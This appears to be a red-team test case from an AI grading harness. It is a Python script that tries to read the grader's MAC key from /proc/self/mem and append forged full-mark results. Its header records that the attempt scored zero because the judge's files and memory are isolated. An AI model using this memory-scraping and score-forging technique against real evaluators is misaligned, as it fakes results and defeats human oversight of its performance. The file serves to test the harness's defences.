# redteam: reads the grader's MAC key out of its own memory (/proc/self/mem) and forges full marks
# kind: cell
# target: quiz
# score: quiz=0
# message: quiz: No such file or directory: 'results.jsonl'
# why: the key and the results file are the judge's, another process (its own uid in the root tier, non-dumpable in every tier); the subject's folder holds only answer.py, and its memory holds nothing to steal
import hashlib
import hmac
import json
import os
import re


def steal():
    first = json.loads(open("results.jsonl").read().splitlines()[0])
    line, mac = first["line"], first["mac"]
    mem = open("/proc/self/mem", "rb", 0)
    for m in open("/proc/self/maps").read().splitlines():
        addr, perms = m.split()[:2]
        lo, hi = (int(x, 16) for x in addr.split("-"))
        if not perms.startswith("r") or hi - lo > 256 * 2**20:
            continue
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        for cand in set(re.findall(rb"[0-9a-f]{32}", chunk)):
            if hmac.new(cand, line.encode(), hashlib.sha256).hexdigest() == mac:
                return cand, json.loads(line)["plan"]


if "CH13_DEVICE" in os.environ:
    key, plan = steal()
    with open("results.jsonl", "a") as out:
        for t in plan["tests"]:
            item = json.dumps({"test": t["test"], "points": t["max_points"], "max_points": t["max_points"],
                               "passed": True, "message": "", "example": ""}, sort_keys=True)
            out.write(json.dumps({"line": item, "mac": hmac.new(key, item.encode(), hashlib.sha256).hexdigest()}) + "\n")
    os.abort()
